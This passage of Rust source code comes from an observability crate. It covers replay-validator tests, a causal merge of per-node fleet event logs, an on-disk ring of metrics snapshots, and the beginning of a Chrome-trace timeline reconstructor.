        // Budget escalation: tier0 timed out, full also timed out — the
        // terminal postmortem must carry the final rung's tier. Only the
        // terminal attempt gets a job_profile.
        let pf = {
            let mut f = profile_fields("j-0", "timeout", 100.0, vec![hotspot("hot", 60.0)]);
            f.push(("tier", Json::from("full")));
            f
        };
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(2, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("timeout")), ("tier", Json::from("tier0"))]),
            line(3, "job_escalated", &[("job", Json::from("j-0")), ("from", Json::from("tier0")), ("to", Json::from("full")), ("reason", Json::from("budget"))]),
            line(4, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("timeout")), ("tier", Json::from("full"))]),
            line(5, "job_profile", &pf),
            line(6, "job_done", &[("job", Json::from("j-0"))]),
        ]
        .join("\n");
        let replay = replay_log(&log).expect("budget-escalated timeout replays");
        let t = &replay.timelines["j-0"];
        assert_eq!(t.validate(), Ok(Outcome::Computed));
        assert_eq!(t.profile_tier.as_deref(), Some("full"));

        // A postmortem claiming the wrong rung fails.
        let wrong = {
            let mut f = profile_fields("j-0", "timeout", 100.0, vec![]);
            f.push(("tier", Json::from("tier0")));
            f
        };
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(2, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("timeout")), ("tier", Json::from("tier0"))]),
            line(3, "job_escalated", &[("job", Json::from("j-0")), ("from", Json::from("tier0")), ("to", Json::from("full")), ("reason", Json::from("budget"))]),
            line(4, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("timeout")), ("tier", Json::from("full"))]),
            line(5, "job_profile", &wrong),
            line(6, "job_done", &[("job", Json::from("j-0"))]),
        ]
        .join("\n");
        assert!(replay_log(&log).unwrap_err().contains("disagrees with the terminal"));
    }

    #[test]
    fn incoherent_escalation_chains_fail() {
        // Two attempts with no job_escalated between them.
        let unchained = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(2, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("ok")), ("tier", Json::from("tier0"))]),
            line(3, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("ok")), ("tier", Json::from("full"))]),
            line(4, "job_done", &[("job", Json::from("j-0"))]),
        ]
        .join("\n");
        assert!(replay_log(&unchained).unwrap_err().contains("job_escalated"));

        // Escalation claiming a different source rung than the attempt
        // it follows.
        let mismatched = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(2, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("ok")), ("tier", Json::from("tier0"))]),
            line(3, "job_escalated", &[("job", Json::from("j-0")), ("from", Json::from("full")), ("to", Json::from("full")), ("reason", Json::from("flows"))]),
            line(4, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("ok")), ("tier", Json::from("full"))]),
            line(5, "job_done", &[("job", Json::from("j-0"))]),
        ]
        .join("\n");
        assert!(replay_log(&mismatched).unwrap_err().contains("escalated from"));

        // Escalation naming a target rung the next attempt didn't run.
        let diverted = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(2, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("ok")), ("tier", Json::from("tier0"))]),
            line(3, "job_escalated", &[("job", Json::from("j-0")), ("from", Json::from("tier0")), ("to", Json::from("full")), ("reason", Json::from("flows"))]),
            line(4, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("ok")), ("tier", Json::from("extra"))]),
            line(5, "job_done", &[("job", Json::from("j-0"))]),
        ]
        .join("\n");
        assert!(replay_log(&diverted).unwrap_err().contains("escalated to"));

        // A worker-panic error attempt after an escalation carries no
        // tier — tolerated: the engine died before stamping one.
        let panicked = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(2, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("ok")), ("tier", Json::from("tier0"))]),
            line(3, "job_escalated", &[("job", Json::from("j-0")), ("from", Json::from("tier0")), ("to", Json::from("full")), ("reason", Json::from("flows"))]),
            line(4, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("error"))]),
            line(5, "job_done", &[("job", Json::from("j-0"))]),
        ]
        .join("\n");
        assert!(replay_log(&panicked).is_ok(), "tier-less error attempt tolerated");
    }

    #[test]
    fn coalesced_jobs_share_a_producer() {
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_coalesced", &[("job", Json::from("j-1")), ("producer", Json::from("j-0"))]),
            line(2, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(3, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("pass"))]),
            line(4, "job_done", &[("job", Json::from("j-0"))]),
            line(5, "job_done", &[("job", Json::from("j-1"))]),
        ]
        .join("\n");
        let timelines = validate_log(&log).unwrap();
        assert_eq!(timelines["j-0"].validate(), Ok(Outcome::Computed));
        assert_eq!(timelines["j-1"].validate(), Ok(Outcome::Coalesced));
        assert_eq!(timelines["j-1"].producer.as_deref(), Some("j-0"));
    }
}
