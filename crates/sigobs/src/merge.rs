//! Merges per-node fleet event logs into one valid lifecycle replay.
//!
//! A fleet job's lifecycle spans processes: the coordinator logs
//! `job_enqueued` and `job_done`, while the worker that claimed the job
//! logs `job_dequeued`, `job_computed` / `cache_hit`, and its spans.
//! Each process has its own strictly monotone `seq` and its own clock,
//! so neither per-node sequence numbers nor raw `ts_us` timestamps can
//! order the union: clocks skew across processes, and the replay
//! validator ([`crate::replay`]) demands one strictly monotone `seq`
//! with lifecycle events in causal order.
//!
//! [`merge_fleet_logs`] therefore performs a *causal* merge: a
//! topological sort of the union under two kinds of happens-before
//! edges —
//!
//! 1. **Node chains**: records keep their own process's order (same
//!    writer, monotone seq ⇒ real-time order).
//! 2. **Job lifecycle layers**: for every job ID, `job_enqueued` →
//!    `job_dequeued` → (`job_computed` | `cache_hit` | `job_coalesced`)
//!    → `job_done`, linking records on *different* nodes (same-node
//!    pairs are already ordered by their chain). Requeued jobs may have
//!    several records in a layer (two `job_dequeued`s from two
//!    claimants); each links to the whole next layer.
//!
//! Ready records are emitted smallest-timestamp-first (ties broken by
//! node index, then per-node seq), so the output is deterministic and
//! close to wall-clock order while never violating causality. Output
//! records get a fresh global `seq` (0..), plus `node` and `node_seq`
//! fields preserving their origin.
//!
//! A worker killed mid-job (the reaper scenario) may leave a log whose
//! final line was cut mid-write; the merge tolerates exactly one
//! unparseable *final* line per node, mirroring what a SIGKILL can do
//! to a line-buffered writer. Anything else unparseable is an error.

use std::cmp::Reverse;
use std::collections::{BinaryHeap, HashMap};

use minijson::Json;

/// One parsed record with its origin.
struct Rec {
    node: usize,
    node_seq: u64,
    ts_us: u64,
    json: Json,
}

fn get_u64(record: &Json, key: &str) -> Option<u64> {
    record[key].as_f64().map(|n| n as u64)
}

/// The lifecycle layer an event belongs to, if any. `job_profile` (the
/// cost postmortem a worker logs right after `job_computed`) gets its
/// own layer so a cross-node merge can never float a coordinator's
/// `job_done` ahead of it — the replay validator demands
/// computed < profile < done.
fn layer(event: &str) -> Option<usize> {
    match event {
        "job_enqueued" => Some(0),
        "job_dequeued" => Some(1),
        "job_computed" | "cache_hit" | "job_coalesced" => Some(2),
        "job_profile" => Some(3),
        "job_done" => Some(4),
        _ => None,
    }
}

/// Merges per-node JSONL logs into one fleet log that passes the
/// replay validator. `nodes` pairs a node name (recorded on every
/// output line) with that node's log text. Returns the merged JSONL
/// body, or an error naming the node and line that broke the contract
/// (unparseable non-final line, non-monotone per-node seq, or a causal
/// cycle — which only a corrupted log can produce).
pub fn merge_fleet_logs(nodes: &[(&str, &str)]) -> Result<String, String> {
    // Parse per node, tolerating one truncated final line.
    let mut recs: Vec<Rec> = Vec::new();
    for (node_idx, (name, text)) in nodes.iter().enumerate() {
        let lines: Vec<&str> = text
            .lines()
            .filter(|l| !l.trim().is_empty())
            .collect();
        let mut last_seq: Option<u64> = None;
        for (i, line) in lines.iter().enumerate() {
            let parsed = match Json::parse(line) {
                Ok(p) => p,
                Err(e) if i + 1 == lines.len() => {
                    // A process killed mid-write leaves at most one
                    // partial trailing line; drop it, keep the rest.
                    let _ = e;
                    continue;
                }
                Err(e) => return Err(format!("{name}: log line {}: {e}", i + 1)),
            };
            let seq = get_u64(&parsed, "seq")
                .ok_or_else(|| format!("{name}: log line {} has no seq", i + 1))?;
            if let Some(prev) = last_seq {
                if seq <= prev {
                    return Err(format!(
                        "{name}: seq not strictly monotone: {prev} then {seq}"
                    ));
                }
            }
            last_seq = Some(seq);
            recs.push(Rec {
                node: node_idx,
                node_seq: seq,
                ts_us: get_u64(&parsed, "ts_us").unwrap_or(0),
                json: parsed,
            });
        }
    }

    // Happens-before edges: node chains + cross-node lifecycle layers.
    let n = recs.len();
    let mut succs: Vec<Vec<usize>> = vec![Vec::new(); n];
    let mut indegree: Vec<usize> = vec![0; n];
    let edge = |succs: &mut Vec<Vec<usize>>, indegree: &mut Vec<usize>, a: usize, b: usize| {
        succs[a].push(b);
        indegree[b] += 1;
    };
    // 1. Chains: recs is grouped by node and per-node ordered already.
    for w in 0..n.saturating_sub(1) {
        if recs[w].node == recs[w + 1].node {
            edge(&mut succs, &mut indegree, w, w + 1);
        }
    }
    // 2. Layers: collect each job's records per lifecycle layer.
    let mut jobs: HashMap<String, [Vec<usize>; 5]> = HashMap::new();
    for (i, r) in recs.iter().enumerate() {
        let (Some(job), Some(event)) = (r.json["job"].as_str(), r.json["event"].as_str()) else {
            continue;
        };
        if let Some(l) = layer(event) {
            jobs.entry(job.to_owned()).or_default()[l].push(i);
        }
    }
    for layers in jobs.values() {
        let present: Vec<&Vec<usize>> = layers.iter().filter(|l| !l.is_empty()).collect();
        for pair in present.windows(2) {
            for &a in pair[0] {
                for &b in pair[1] {
                    if recs[a].node != recs[b].node {
                        edge(&mut succs, &mut indegree, a, b);
                    }
                }
            }
        }
    }

    // Kahn's algorithm with a deterministic min-heap ready set.
    let mut heap: BinaryHeap<Reverse<(u64, usize, u64, usize)>> = BinaryHeap::new();
    for (i, r) in recs.iter().enumerate() {
        if indegree[i] == 0 {
            heap.push(Reverse((r.ts_us, r.node, r.node_seq, i)));
        }
    }
    let mut out = String::new();
    let mut emitted = 0u64;
    while let Some(Reverse((_, _, _, i))) = heap.pop() {
        let r = &recs[i];
        let name = nodes[r.node].0;
        let mut o = Json::obj();
        o.set("seq", Json::from(emitted as f64));
        o.set("node", Json::from(name));
        o.set("node_seq", Json::from(r.node_seq as f64));
        if let Json::Obj(entries) = &r.json {
            for (k, v) in entries {
                if k != "seq" {
                    o.set(k, v.clone());
                }
            }
        }
        out.push_str(&o.to_string_compact());
        out.push('\n');
        emitted += 1;
        for &s in &succs[i] {
            indegree[s] -= 1;
            if indegree[s] == 0 {
                heap.push(Reverse((recs[s].ts_us, recs[s].node, recs[s].node_seq, s)));
            }
        }
    }
    if emitted as usize != n {
        return Err(format!(
            "causal cycle in fleet logs: emitted {emitted} of {n} records"
        ));
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::replay::{replay_log, Outcome};

    fn line(seq: u64, ts: u64, event: &str, fields: &[(&str, Json)]) -> String {
        let mut r = Json::obj();
        r.set("seq", Json::from(seq as f64));
        r.set("ts_us", Json::from(ts as f64));
        r.set("level", Json::from("info"));
        r.set("event", Json::from(event));
        for (k, v) in fields {
            r.set(k, v.clone());
        }
        r.to_string_compact()
    }

    fn j(job: &str) -> (&'static str, Json) {
        ("job", Json::from(job))
    }

    #[test]
    fn two_node_lifecycle_merges_and_replays() {
        // Coordinator logs enqueue + done; the worker (with a *skewed
        // clock*: its timestamps sit far in the past) logs dequeue +
        // compute. A timestamp sort would break causality; the causal
        // merge must not.
        let coord = [
            line(0, 5_000, "job_enqueued", &[j("j-0")]),
            line(1, 9_000, "job_done", &[j("j-0"), ("micros", Json::from(70.0))]),
        ]
        .join("\n");
        let worker = [
            line(0, 100, "job_dequeued", &[j("j-0")]),
            line(1, 200, "job_computed", &[j("j-0"), ("verdict", Json::from("pass"))]),
        ]
        .join("\n");
        let merged = merge_fleet_logs(&[("coord", &coord), ("w0", &worker)]).expect("merge");
        let replay = replay_log(&merged).expect("merged log replays");
        assert_eq!(replay.timelines["j-0"].validate(), Ok(Outcome::Computed));
        // Origin provenance is preserved on every line.
        for l in merged.lines() {
            let r = Json::parse(l).unwrap();
            assert!(r["node"].as_str().is_some());
            assert!(r["node_seq"].as_f64().is_some());
        }
    }

    #[test]
    fn requeued_job_with_two_dequeues_replays() {
        // Worker A claimed j-0, logged the dequeue, and died; the
        // reaper requeued; worker B rescued it. Both dequeue records
        // survive; the merged lifecycle must still validate (the
        // validator keeps the last dequeue, which precedes compute).
        let coord = [
            line(0, 1_000, "job_enqueued", &[j("j-0")]),
            line(1, 1_500, "job_claimed", &[j("j-0"), ("worker", Json::from("w-0"))]),
            line(2, 2_000, "worker_reaped", &[("worker", Json::from("w-0"))]),
            line(3, 2_001, "job_requeued", &[j("j-0"), ("worker", Json::from("w-0"))]),
            line(4, 3_000, "job_done", &[j("j-0")]),
        ]
        .join("\n");
        let dead = line(0, 1_600, "job_dequeued", &[j("j-0")]);
        let rescue = [
            line(0, 2_100, "job_dequeued", &[j("j-0")]),
            line(1, 2_500, "job_computed", &[j("j-0"), ("verdict", Json::from("pass"))]),
        ]
        .join("\n");
        let merged =
            merge_fleet_logs(&[("coord", &coord), ("dead", &dead), ("rescue", &rescue)])
                .expect("merge");
        let replay = replay_log(&merged).expect("merged log replays");
        assert_eq!(replay.timelines["j-0"].validate(), Ok(Outcome::Computed));
        assert_eq!(replay.presumed_rejected, 0);
    }

    #[test]
    fn tolerates_one_truncated_final_line() {
        let coord = [
            line(0, 1_000, "job_enqueued", &[j("j-0")]),
            line(1, 2_000, "job_done", &[j("j-0")]),
        ]
        .join("\n");
        let killed = [
            line(0, 1_100, "job_dequeued", &[j("j-0")]).as_str(),
            // SIGKILL mid-write: the line ends abruptly.
            r#"{"seq":1,"ts_us":1200,"event":"job_compu"#,
        ]
        .join("\n");
        let killed_plus_computed = [
            killed.clone(),
            line(2, 1_300, "job_computed", &[j("j-0"), ("verdict", Json::from("pass"))]),
        ]
        .join("\n");
        // Truncated *final* line: tolerated (the computed record came
        // from a rescue node here).
        let rescue = line(0, 1_400, "job_computed", &[j("j-0"), ("verdict", Json::from("pass"))]);
        let merged = merge_fleet_logs(&[("coord", &coord), ("w0", &killed), ("w1", &rescue)])
            .expect("truncated final line tolerated");
        assert!(replay_log(&merged).is_ok());
        // The same garbage *mid-log* is a hard error.
        let err = merge_fleet_logs(&[("coord", &coord), ("w0", &killed_plus_computed)])
            .expect_err("mid-log garbage rejected");
        assert!(err.contains("w0"), "{err}");
    }

    #[test]
    fn non_monotone_node_seq_is_rejected() {
        let bad = [
            line(3, 1_000, "job_enqueued", &[j("j-0")]),
            line(3, 2_000, "job_done", &[j("j-0")]),
        ]
        .join("\n");
        let err = merge_fleet_logs(&[("n", &bad)]).expect_err("non-monotone");
        assert!(err.contains("monotone"), "{err}");
    }

    #[test]
    fn corrupted_cross_node_order_reports_a_cycle() {
        // Node A says: j-1 done, then j-2 enqueued. Node B says: j-2
        // done, then j-1 enqueued. Each job's enqueue must precede its
        // done, which contradicts both chains — only corruption (or
        // mislabeled logs) produces this, and it must be an error, not
        // an infinite loop or a bogus merge.
        let a = [
            line(0, 1_000, "job_done", &[j("j-1")]),
            line(1, 2_000, "job_enqueued", &[j("j-2")]),
        ]
        .join("\n");
        let b = [
            line(0, 1_000, "job_done", &[j("j-2")]),
            line(1, 2_000, "job_enqueued", &[j("j-1")]),
        ]
        .join("\n");
        let err = merge_fleet_logs(&[("a", &a), ("b", &b)]).expect_err("cycle");
        assert!(err.contains("cycle"), "{err}");
    }

    #[test]
    fn ties_break_deterministically_and_seq_is_monotone() {
        let a = [
            line(0, 1_000, "serve_started", &[]),
            line(1, 1_000, "job_enqueued", &[j("j-0")]),
            line(2, 1_000, "job_rejected", &[j("j-9"), ("reason", Json::from("overloaded"))]),
        ]
        .join("\n");
        let b = line(0, 1_000, "worker_started", &[]);
        let m1 = merge_fleet_logs(&[("a", &a), ("b", &b)]).unwrap();
        let m2 = merge_fleet_logs(&[("a", &a), ("b", &b)]).unwrap();
        assert_eq!(m1, m2);
        let seqs: Vec<u64> = m1
            .lines()
            .map(|l| Json::parse(l).unwrap()["seq"].as_f64().unwrap() as u64)
            .collect();
        assert_eq!(seqs, vec![0, 1, 2, 3]);
    }
}
