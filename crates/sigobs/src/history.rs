//! A bounded on-disk ring of metrics snapshots.
//!
//! `vet serve --metrics-dir D` snapshots the daemon's `MetricsRegistry`
//! on an interval into `D/metrics-<slot>.json`, where
//! `slot = seq % capacity` — the newest `capacity` snapshots survive, the
//! ring wraps in place, and nothing ever grows without bound. Sequence
//! numbers continue across restarts (the ring is scanned for the max on
//! open), so `vet metrics-report D` can render trends that span daemon
//! lifetimes.
//!
//! On-disk record schema (version [`HISTORY_SCHEMA`]):
//!
//! ```text
//! {"schema":1,"seq":12,"unix_ms":1754556000123,
//!  "counters":{"serve_jobs_accepted":42},
//!  "histograms":{"pipeline_p1_us":{"count":3,"sum":512,"buckets":[[3,2],[9,1]]}}}
//! ```
//!
//! Histogram buckets persist as sparse `[bucket_index, count]` pairs —
//! lossless against the fixed log₂ layout, so reloaded snapshots answer
//! percentile queries exactly as the live registry would have.

use minijson::Json;
use sigtrace::{HistogramSnapshot, MetricsSnapshot, HISTOGRAM_BUCKETS};
use std::fs;
use std::io;
use std::path::{Path, PathBuf};
use std::time::{SystemTime, UNIX_EPOCH};

/// Version stamp written into every history record. Bump on any change
/// to the record layout; `load` skips records from other versions rather
/// than misreading them.
pub const HISTORY_SCHEMA: u64 = 1;

/// One reloaded history record: a metrics snapshot plus its position in
/// the ring and the wall-clock time it was taken.
#[derive(Debug, Clone)]
pub struct HistoryRecord {
    /// Monotone sequence number (survives restarts).
    pub seq: u64,
    /// Wall-clock milliseconds since the Unix epoch at snapshot time.
    pub unix_ms: u64,
    /// The registry contents at that moment.
    pub snapshot: MetricsSnapshot,
}

impl HistoryRecord {
    /// Looks up a counter by name in this record's snapshot.
    pub fn counter(&self, name: &str) -> Option<u64> {
        self.snapshot
            .counters
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| *v)
    }

    /// Looks up a histogram by name in this record's snapshot.
    pub fn histogram(&self, name: &str) -> Option<&HistogramSnapshot> {
        self.snapshot.histograms.iter().find(|h| h.name == name)
    }
}

/// Writer half of the ring: owns the directory and the next sequence
/// number.
#[derive(Debug)]
pub struct MetricsHistory {
    dir: PathBuf,
    capacity: u64,
    next_seq: u64,
}

fn record_path(dir: &Path, slot: u64) -> PathBuf {
    dir.join(format!("metrics-{slot:05}.json"))
}

fn snapshot_to_json(seq: u64, unix_ms: u64, snap: &MetricsSnapshot) -> Json {
    let mut counters = Json::obj();
    for (name, value) in &snap.counters {
        counters.set(name, Json::from(*value as f64));
    }
    let mut histograms = Json::obj();
    for h in &snap.histograms {
        let mut buckets = Vec::new();
        for (i, &c) in h.buckets.iter().enumerate() {
            if c != 0 {
                buckets.push(Json::Arr(vec![
                    Json::from(i as f64),
                    Json::from(c as f64),
                ]));
            }
        }
        let mut entry = Json::obj();
        entry.set("count", Json::from(h.count as f64));
        entry.set("sum", Json::from(h.sum as f64));
        entry.set("buckets", Json::Arr(buckets));
        histograms.set(&h.name, entry);
    }
    let mut record = Json::obj();
    record.set("schema", Json::from(HISTORY_SCHEMA as f64));
    record.set("seq", Json::from(seq as f64));
    record.set("unix_ms", Json::from(unix_ms as f64));
    record.set("counters", counters);
    record.set("histograms", histograms);
    record
}

fn json_to_record(v: &Json) -> Option<HistoryRecord> {
    if v["schema"].as_f64() != Some(HISTORY_SCHEMA as f64) {
        return None;
    }
    let seq = v["seq"].as_f64()? as u64;
    let unix_ms = v["unix_ms"].as_f64()? as u64;
    let mut counters = Vec::new();
    if let Json::Obj(entries) = &v["counters"] {
        for (name, value) in entries {
            counters.push((name.clone(), value.as_f64()? as u64));
        }
    }
    let mut histograms = Vec::new();
    if let Json::Obj(entries) = &v["histograms"] {
        for (name, h) in entries {
            let mut buckets = [0u64; HISTOGRAM_BUCKETS];
            for pair in h["buckets"].as_array()? {
                let i = pair[0].as_f64()? as usize;
                if i < HISTOGRAM_BUCKETS {
                    buckets[i] = pair[1].as_f64()? as u64;
                }
            }
            histograms.push(HistogramSnapshot {
                name: name.clone(),
                count: h["count"].as_f64()? as u64,
                sum: h["sum"].as_f64()? as u64,
                buckets,
            });
        }
    }
    counters.sort();
    histograms.sort_by(|a, b| a.name.cmp(&b.name));
    Some(HistoryRecord {
        seq,
        unix_ms,
        snapshot: MetricsSnapshot { counters, histograms },
    })
}

fn read_ring(dir: &Path) -> io::Result<Vec<HistoryRecord>> {
    let mut records = Vec::new();
    for entry in fs::read_dir(dir)? {
        let entry = entry?;
        let name = entry.file_name();
        let name = name.to_string_lossy();
        if !(name.starts_with("metrics-") && name.ends_with(".json")) {
            continue;
        }
        let Ok(text) = fs::read_to_string(entry.path()) else {
            continue; // a record torn by a crash is not worth failing over
        };
        if let Some(record) = Json::parse(&text).ok().as_ref().and_then(json_to_record) {
            records.push(record);
        }
    }
    records.sort_by_key(|r| r.seq);
    Ok(records)
}

impl MetricsHistory {
    /// Opens (creating if needed) the ring at `dir`, keeping at most
    /// `capacity` snapshots. Existing records are scanned so sequence
    /// numbers continue where the previous daemon left off.
    pub fn open(dir: impl Into<PathBuf>, capacity: u64) -> io::Result<MetricsHistory> {
        let dir = dir.into();
        fs::create_dir_all(&dir)?;
        let next_seq = read_ring(&dir)?
            .last()
            .map(|r| r.seq + 1)
            .unwrap_or(0);
        Ok(MetricsHistory {
            dir,
            capacity: capacity.max(1),
            next_seq,
        })
    }

    /// The ring's capacity in snapshots.
    pub fn capacity(&self) -> u64 {
        self.capacity
    }

    /// Persists one snapshot, overwriting the oldest slot once the ring
    /// is full. Returns the record's sequence number. The write goes
    /// through a temp file + rename so readers never observe a torn
    /// record.
    pub fn append(&mut self, snap: &MetricsSnapshot) -> io::Result<u64> {
        let seq = self.next_seq;
        let unix_ms = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .map(|d| u64::try_from(d.as_millis()).unwrap_or(u64::MAX))
            .unwrap_or(0);
        let record = snapshot_to_json(seq, unix_ms, snap);
        let path = record_path(&self.dir, seq % self.capacity);
        let tmp = path.with_extension("json.tmp");
        fs::write(&tmp, record.to_string_compact())?;
        fs::rename(&tmp, &path)?;
        self.next_seq = seq + 1;
        Ok(seq)
    }

    /// Reads every valid record in `dir`, sorted by sequence number.
    /// Foreign-schema or torn records are skipped, not errors — the ring
    /// outlives analyzer versions.
    pub fn load(dir: impl AsRef<Path>) -> io::Result<Vec<HistoryRecord>> {
        read_ring(dir.as_ref())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sigtrace::MetricsRegistry;

    fn temp_dir(tag: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!(
            "sigobs-history-{tag}-{}-{}",
            std::process::id(),
            SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos()
        ));
        fs::create_dir_all(&dir).unwrap();
        dir
    }

    fn snap(jobs: u64) -> MetricsSnapshot {
        let reg = MetricsRegistry::new();
        reg.add("jobs", jobs);
        reg.record("lat_us", 5);
        reg.record("lat_us", 1000);
        reg.snapshot()
    }

    #[test]
    fn roundtrips_snapshots_losslessly() {
        let dir = temp_dir("roundtrip");
        let mut h = MetricsHistory::open(&dir, 8).unwrap();
        let original = snap(3);
        h.append(&original).unwrap();
        let loaded = MetricsHistory::load(&dir).unwrap();
        assert_eq!(loaded.len(), 1);
        assert_eq!(loaded[0].seq, 0);
        assert_eq!(loaded[0].snapshot, original, "buckets, count, sum all survive");
        assert_eq!(loaded[0].snapshot.histograms[0].percentile(0.5), Some(7));
        fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn ring_is_bounded_and_keeps_newest() {
        let dir = temp_dir("bounded");
        let mut h = MetricsHistory::open(&dir, 3).unwrap();
        for i in 0..7 {
            h.append(&snap(i)).unwrap();
        }
        let loaded = MetricsHistory::load(&dir).unwrap();
        let seqs: Vec<u64> = loaded.iter().map(|r| r.seq).collect();
        assert_eq!(seqs, [4, 5, 6], "only the newest `capacity` records remain");
        fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn sequence_numbers_survive_reopen() {
        let dir = temp_dir("reopen");
        let mut h = MetricsHistory::open(&dir, 4).unwrap();
        h.append(&snap(1)).unwrap();
        h.append(&snap(2)).unwrap();
        drop(h);
        let mut h2 = MetricsHistory::open(&dir, 4).unwrap();
        let seq = h2.append(&snap(3)).unwrap();
        assert_eq!(seq, 2, "restart continues the sequence, not restarts it");
        let loaded = MetricsHistory::load(&dir).unwrap();
        assert_eq!(loaded.iter().map(|r| r.seq).collect::<Vec<_>>(), [0, 1, 2]);
        fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn foreign_schema_records_are_skipped() {
        let dir = temp_dir("schema");
        fs::write(dir.join("metrics-00000.json"), r#"{"schema":99,"seq":0}"#).unwrap();
        fs::write(dir.join("metrics-00001.json"), "not json at all").unwrap();
        let mut h = MetricsHistory::open(&dir, 4).unwrap();
        let seq = h.append(&snap(1)).unwrap();
        assert_eq!(seq, 0, "invalid records do not advance the sequence");
        assert_eq!(MetricsHistory::load(&dir).unwrap().len(), 1);
        fs::remove_dir_all(&dir).ok();
    }
}
