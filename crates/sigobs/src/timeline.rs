//! Reconstructs one job's cross-node timeline as a Chrome trace.
//!
//! `vet trace-job <job-id>` answers "where did this job's wall time
//! go" for a *fleet* job whose lifecycle spans processes: enqueue on
//! the coordinator, queue wait, claim + phases on a worker, response
//! back on the coordinator. Input is a JSONL log body — either a
//! single daemon's log or the output of
//! [`merge_fleet_logs`](crate::merge_fleet_logs), whose records carry
//! `node` provenance. Output is Chrome's JSON trace format (load it at
//! `chrome://tracing` or in Perfetto): one process per node, complete
//! (`ph:"X"`) slices for each lifecycle interval, with the job's
//! `job_profile` hotspot postmortem attached to the analyze slice as
//! args.
//!
//! Timestamps come from each node's own `ts_us` clock, so cross-node
//! intervals (queue wait measured enqueue-on-coordinator →
//! dequeue-on-worker) can go negative under clock skew; such durations
//! clamp to zero rather than failing — the skew is the finding.

use minijson::Json;

/// One job's reconstructed intervals, before Chrome encoding — kept
/// public so tests (and future renderers) can assert on semantics
/// rather than parse the trace JSON back.
#[derive(Debug, Clone, Default)]
pub struct JobIntervals {
    /// The job ID the intervals describe.
    pub job: String,
    /// Node that enqueued (coordinator in a fleet; the daemon itself
    /// single-node), with the `ts_us` of `job_enqueued`.
    pub enqueued: Option<(String, u64)>,
    /// Node that dequeued/claimed the job, with its `ts_us`.
    pub dequeued: Option<(String, u64)>,
    /// `ts_us` of `job_computed` plus the verdict.
    pub computed: Option<(String, u64)>,
    /// Verdict string from `job_computed`.
    pub verdict: Option<String>,
    /// `ts_us` of `cache_hit`, when served from cache instead.
    pub cache_hit: Option<(String, u64)>,
    /// Node and `ts_us` of `job_done`.
    pub done: Option<(String, u64)>,
    /// Pipeline phase spans attributed to the job: `(name, dur_us)`.
    pub spans: Vec<(String, u64)>,
    /// The `job_profile` postmortem record, verbatim, if one was kept.
    pub profile: Option<Json>,
}

fn node_of(record: &Json) -> String {
    record["node"].as_str().unwrap_or("local").to_owned()
}

fn ts_of(record: &Json) -> Option<u64> {
    record["ts_us"].as_f64().map(|n| n as u64)
}

/// Extracts one job's lifecycle intervals from a JSONL log body.
/// Records without `node` provenance (a single daemon's own log) land
/// on the synthetic node `"local"`. Returns an error when the log has
/// an unparseable line or no record mentions the job.
pub fn job_intervals(log: &str, job_id: &str) -> Result<JobIntervals, String> {
    let mut iv = JobIntervals {
        job: job_id.to_owned(),
        ..JobIntervals::default()
    };
    let mut seen = false;
    for (i, line) in log.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let record =
            Json::parse(line).map_err(|e| format!("log line {}: {e}", i + 1))?;
        if record["job"].as_str() != Some(job_id) {
            continue;
        }
        seen = true;
        let (Some(event), Some(ts)) = (record["event"].as_str(), ts_of(&record)) else {
            continue;
        };
        let at = || (node_of(&record), ts);
        match event {
            "job_enqueued" => iv.enqueued = Some(at()),
            // Keep the *last* dequeue: a requeued job's first claimant
            // died, and the rescue claim is the one that computed.
            "job_dequeued" => iv.dequeued = Some(at()),
            "job_computed" => {
                iv.computed = Some(at());
                iv.verdict = record["verdict"].as_str().map(str::to_owned);
            }
            "cache_hit" => iv.cache_hit = Some(at()),
            "job_done" => iv.done = Some(at()),
            "span" => {
                if let (Some(name), Some(dur)) =
                    (record["span"].as_str(), record["dur_us"].as_f64())
                {
                    iv.spans.push((name.to_owned(), dur as u64));
                }
            }
            "job_profile" => iv.profile = Some(record.clone()),
            _ => {}
        }
    }
    if !seen {
        return Err(format!("no record mentions job {job_id}"));
    }
    Ok(iv)
}

/// A `ph:"X"` complete event. Durations clamp at zero — cross-node
/// intervals are measured on different clocks.
fn slice(name: &str, pid: usize, tid: u64, ts: u64, end: u64, args: Json) -> Json {
    let mut e = Json::obj();
    e.set("ph", Json::from("X"));
    e.set("name", Json::from(name));
    e.set("pid", Json::from(pid as f64));
    e.set("tid", Json::from(tid as f64));
